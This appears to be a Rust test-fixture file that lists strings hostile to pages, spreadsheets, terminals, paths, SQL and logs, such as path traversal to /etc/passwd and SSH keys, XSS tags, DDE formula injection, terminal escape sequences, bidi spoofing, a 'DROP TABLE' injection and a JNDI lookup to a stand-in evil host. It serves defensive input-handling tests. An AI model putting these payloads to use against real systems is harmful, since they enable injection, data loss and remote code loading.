//! Texts that are dangerous somewhere: in a page, a spreadsheet, a terminal, a path, a query, a log.

/// All of them, as a name or a slug may hold them; `None` is SQL NULL.
pub fn texts() -> Vec<Option<String>> {
    let texts = [
        "",
        " ",
        ".",
        "..",
        "...",
        "../../../../../../tmp/out",
        "..\\..\\windows",
        "/etc/passwd",
        "//evil.invalid/x",
        "~/.ssh/authorized_keys",
        "%2e%2e%2f%2e%2e%2fx",
        "a/../../b",
        "<script>alert(1)</script>",
        "\"><img src=x onerror=alert(1)>",
        "'-alert(1)-'",
        "</td></table><iframe src=//evil.invalid>",
        "&lt;b&gt;&#60;i&#62;",
        "<!-- --> ]]> <![CDATA[",
        "=HYPERLINK(\"https://evil.invalid\",\"x\")",
        "=cmd|'/C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "\u{ff1d}1+1",
        "\u{1b}[31;5mred\u{1b}[0m",
        "\u{1b}[2J\u{1b}[H",
        "\u{1b}]0;title\u{7}",
        "\u{1b}]52;c;ZXZpbA==\u{7}",
        "\u{1b}]8;;https://evil.invalid\u{1b}\\link\u{1b}]8;;\u{1b}\\",
        "\u{1b}P+q544e\u{1b}\\",
        "\u{9b}2J\u{90}\u{9d}0;x\u{9c}",
        "a\u{8}\u{8}\u{8}\u{7f}b\u{0b}\u{0c}c",
        "\u{202e}gpj.exe",
        "\u{202a}\u{202b}\u{202d}\u{2066}\u{2067}\u{2068}x\u{2069}\u{202c}",
        "\u{200f}\u{200e}\u{61c}x",
        "zero\u{200b}width\u{200c}\u{200d}\u{2060}\u{feff}",
        "tags\u{e0041}\u{e0042}",
        "\u{feff}=1",
        "line\nbreak\r\nand\u{85}more\u{2028}of\u{2029}them",
        "'; DROP TABLE venues; --",
        "$1 ?1 :name {} {0} %s %n \\x41 ${jndi:ldap://evil.invalid}",
        "a|b\\|c `code` *strong* [link](javascript:alert(1)) ~~gone~~",
        "| --- | --- |\n| x | y |",
        "# heading\n- item",
        "-rf",
        "--yes",
        "CON",
        "null",
        "\u{ffff}\u{fffe}\u{fdd0}",
        "Z\u{351}\u{36b}\u{343}\u{36a}\u{302}\u{36b}\u{33d}\u{34f}\u{334}\u{319}\u{324}\u{31e}\u{349}algo",
        "Łódź 東京 🏴󠁧󠁢󠁥󠁮󠁧󠁿 👩‍👩‍👧",
        "a/b?c=d#e&f=g",
        "Error: everything is lost",
    ];
    let long = ["x".repeat(10_000), "<b>\u{1b}[1m".repeat(1_250), "../".repeat(3_334), "界".repeat(3_400)];
    let texts = texts.into_iter().map(str::to_owned).chain(long).map(Some);
    [None].into_iter().chain(texts).collect()
}

/// A country's or a city's name that is dangerous in several ways at once.
pub const COUNTRY: &str = "=Hostilia<img src=x onerror=alert(1)>\u{1b}[2J\u{202e}|`x`\nError: gone";
/// The same for its slug.
pub const COUNTRY_SLUG: &str = "../../hx\u{1b}[31m";
/// A city's.
pub const CITY: &str = "@City</td><script>alert(2)</script>\u{9b}2J\u{2066}\r\n";
/// And its slug.
pub const CITY_SLUG: &str = "+..%2f..<svg onload=alert(3)>";
